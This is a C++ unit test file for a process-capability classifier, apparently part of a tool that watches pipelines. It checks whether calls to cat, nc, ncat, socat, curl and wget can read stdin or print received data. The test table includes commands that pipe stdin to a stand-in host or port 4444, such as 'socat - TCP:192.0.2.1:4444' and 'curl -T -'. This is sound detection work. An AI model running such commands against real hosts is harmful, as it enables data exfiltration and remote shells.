// SPDX-License-Identifier: Apache-2.0
#include "pipe/capability.hpp"

#include <boost/test/data/test_case.hpp>
#include <boost/test/unit_test.hpp>
#include <ostream>

#include "support/history.hpp"

using namespace pipehound;
namespace data = boost::unit_test::data;

namespace {

process::Process running(const std::string& exe, const std::vector<std::string>& argv) {
    process::Process process;
    process.own.push_back(
        {std::make_shared<process::Program>(exe, argv.front(), "/", argv), {1, {}, 1}});
    return process;
}

struct Call {
    std::vector<std::string> argv;
    bool reads_input;
    bool prints_received;
};
std::ostream& operator<<(std::ostream& out, const Call& call) {
    for (const auto& word : call.argv) out << word << ' ';
    return out;
}

const std::vector<Call> calls{{{"cat"}, true, true},
                              {{"cat", "-"}, true, true},
                              {{"cat", "-u"}, true, true},
                              {{"cat", "file"}, false, true},
                              {{"cat", "file", "/dev/stdin"}, true, true},
                              {{"nc", "192.0.2.1", "80"}, true, true},
                              {{"nc", "-z", "192.0.2.1", "80"}, false, false},
                              {{"nc", "-vzw1", "192.0.2.1", "80"}, false, false},
                              {{"nc", "-P", "-z", "192.0.2.1", "80"}, true, true},
                              {{"nc", "-nP", "-z", "192.0.2.1", "80"}, true, true},
                              {{"nc", "-v", "-z", "192.0.2.1", "80"}, false, false},
                              {{"nc", "-dlN", "80"}, false, true},
                              {{"nc", "-l", "-d", "80"}, false, true},
                              {{"nc", "-s", "-d", "192.0.2.1", "80"}, true, true},
                              {{"ncat", "--zero", "192.0.2.1"}, true, true},
                              {{"ncat", "-o", "-z", "192.0.2.1", "80"}, true, true},
                              {{"ncat", "--output", "-z", "192.0.2.1", "80"}, true, true},
                              {{"ncat", "-d", "1", "192.0.2.1", "80"}, true, true},
                              {{"ncat", "--recv-only", "192.0.2.1", "80"}, false, true},
                              {{"ncat", "-n", "--send-only", "192.0.2.1", "80"}, true, false},
                              {{"ncat", "-o", "--send-only", "192.0.2.1", "80"}, true, true},
                              {{"socat", "-u", "OPEN:m", "TCP:192.0.2.1:80"}, true, false},
                              {{"socat", "-u", "tcp-listen:80,fork", "OPEN:f"}, false, true},
                              {{"socat", "-U", "-", "TCP4:192.0.2.1:80"}, false, true},
                              {{"socat", "-u", "TCP:a:1", "TCP:b:2"}, true, true},
                              {{"socat", "-u", "-U", "-", "TCP:a:1"}, true, true},
                              {{"socat", "-u", "OPEN:m!!TCP:a:1", "TCP:a:1"}, true, true},
                              {{"curl", "-s", "http://192.0.2.1/"}, false, true},
                              {{"curl", "-sSo", "x", "http://192.0.2.1/"}, false, true},
                              {{"curl", "-#", "-o", "/dev/null", "http://192.0.2.1/"}, false, true},
                              {{"curl", "-sN", "telnet://192.0.2.1:4444"}, true, true},
                              {{"curl", "-T", "-", "http://192.0.2.1/"}, true, true},
                              {{"curl", "-d", "@-", "http://192.0.2.1/"}, true, true},
                              {{"curl", "-w", "@-", "http://192.0.2.1/"}, true, true},
                              {{"curl", "-K", "-"}, true, true},
                              {{"curl", "--silent", "--max-time", "3", "host/x"}, false, true},
                              {{"wget", "-qO-", "http://192.0.2.1/"}, true, true},
                              {{"wget", "-q", "http://192.0.2.1/"}, false, true},
                              {{"wget", "-i", "-"}, true, true},
                              {{"socat", "-", "TCP:192.0.2.1:4444"}, true, true}};

}  // namespace

BOOST_AUTO_TEST_SUITE(capability_tests)

BOOST_DATA_TEST_CASE(knows_what_a_plain_call_cannot_do, data::make(calls), call) {
    const auto process = running(test::History::exe_of(call.argv.front()), call.argv);
    BOOST_TEST(pipe::may_read_input(process) == call.reads_input);
    BOOST_TEST(pipe::may_print_received(process) == call.prints_received);
}

// An attacker names his own program as he likes: only a file in a system folder is known.
BOOST_AUTO_TEST_CASE(trusts_no_name_but_that_of_the_file) {
    BOOST_TEST(pipe::may_read_input(running("/tmp/curl", {"curl", "-s", "http://192.0.2.1/"})));
    BOOST_TEST(pipe::may_read_input(running("/usr/bin/nc.openbsd", {"cat", "file"})));
    BOOST_TEST(pipe::may_read_input(running("/usr/bin/x/cat", {"cat", "file"})));
    BOOST_TEST(pipe::may_print_received(running("/tmp/nc", {"nc", "-z", "192.0.2.1", "80"})));
}

BOOST_AUTO_TEST_CASE(a_fork_that_runs_nothing_of_its_own_may_do_anything) {
    const process::Process fork;
    BOOST_TEST(pipe::may_read_input(fork));
    BOOST_TEST(pipe::may_print_received(fork));
}

BOOST_AUTO_TEST_SUITE_END()
